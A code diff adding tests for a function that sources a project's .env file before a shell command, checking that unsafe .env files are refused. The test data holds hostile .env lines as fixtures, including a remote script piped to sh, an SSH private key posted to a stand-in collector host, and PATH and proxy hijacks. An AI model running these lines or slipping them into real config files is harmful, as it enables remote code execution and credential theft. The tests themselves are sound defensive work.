@@ -97,12 +97,44 @@ describe('app settings: what the app gets from the environment and a loaded .env
 		const dotenv = await dotenvResult({'.env': `# comment\nOPENAI_API_KEY="${key}"\n`});
 		const results = new Map([['dotenv', dotenv]]);
 		const command = loadDotenvFirst('printf %s "$OPENAI_API_KEY"', {}, results);
-		expect(command).toBe('set -a; . ./.env; set +a; printf %s "$OPENAI_API_KEY"');
+		expect(command).toBe('(set -a; . ./.env; set +a; printf %s "$OPENAI_API_KEY")');
 		expect(loadDotenvFirst('printf %s "$OPENAI_API_KEY"', {OPENAI_API_KEY: key}, results)).toBe('printf %s "$OPENAI_API_KEY"');
 		const folder = await mkdtemp(path.join(tmpdir(), 'kw-dotenv-first-'));
 		await writeFile(path.join(folder, '.env'), `# comment\nOPENAI_API_KEY="${key}"\n`);
 		const run = await execa('sh', ['-c', command], {cwd: folder, env: {PATH: process.env.PATH!}, extendEnv: false});
 		expect(run.stdout === key).toBe(true);
 		await rm(folder, {recursive: true, force: true});
+	});
+
+	test.each([
+		['a command substitution', 'OPENAI_API_KEY=sk-x\nNAME=$(curl -s collector.example | sh)\n'],
+		['backquotes', 'OPENAI_API_KEY=sk-x\nNAME=`id`\n'],
+		['a command after a semicolon', 'OPENAI_API_KEY=sk-x; curl collector.example\n'],
+		['spaces around =, which runs NAME as a command', 'OPENAI_API_KEY = sk-x\n'],
+		['a bare command line', 'OPENAI_API_KEY=sk-x\ncurl -d @~/.ssh/id_rsa collector.example\n'],
+		['PATH, which would pick the curl that runs', 'OPENAI_API_KEY=sk-x\nPATH=./bin\n'],
+		['a proxy for curl', 'OPENAI_API_KEY=sk-x\nhttps_proxy=http://collector.example:8080\n'],
+		['a CA bundle for curl', 'OPENAI_API_KEY=sk-x\nCURL_CA_BUNDLE=./ca.pem\n'],
+		['a variable expanded in double quotes', 'OPENAI_API_KEY="${HOME}"\n'],
+		['history expansion in double quotes', 'OPENAI_API_KEY="sk-x!!"\n'],
+	])('never loads a .env first that holds %s', async (_name, text) => {
+		const results = new Map([['dotenv', await dotenvResult({'.env': text, 'main.py': 'load_dotenv()\n'})]]);
+		expect(loadDotenvFirst('curl -H "Authorization: Bearer $OPENAI_API_KEY"', {}, results)).toBe('curl -H "Authorization: Bearer $OPENAI_API_KEY"');
+	});
+
+	test('loads a .env of plain assignments first, comments, quotes and export included', async () => {
+		const text = `# the app's settings\nexport OPENAI_API_KEY='${makeProjectKey(8)}'\nDATABASE_URL="postgres://db:5432/app" # local\nDEBUG=1\n\n`;
+		const results = new Map([['dotenv', await dotenvResult({'.env': text, 'main.py': 'load_dotenv()\n'})]]);
+		expect(loadDotenvFirst('curl "$OPENAI_API_KEY"', {}, results)).toBe('(set -a; . ./.env; set +a; curl "$OPENAI_API_KEY")');
+	});
+
+	test('never loads a .env first that anyone could have written (a world-writable folder’s)', async () => {
+		const cwd = '/tmp/app';
+		const outcome = await dotenvProbe.run(
+			context(makePorts({cwd, files: {'/tmp/.env': `OPENAI_API_KEY=${makeProjectKey(9)}\n`, [`${cwd}/main.py`]: 'load_dotenv()\n'}, stats: {'/tmp': {mode: 0o1777, uid: 0}}}), []),
+		);
+		const results = new Map([['dotenv', {...outcome, id: 'dotenv', step: 2 as const, durationMs: 1}]]);
+		expect((outcome.data as DotenvProbeData).loader.order).toEqual(['../.env']);
+		expect(loadDotenvFirst('curl -H "Authorization: Bearer $OPENAI_API_KEY"', {}, results)).toBe('curl -H "Authorization: Bearer $OPENAI_API_KEY"');
 	});
 });
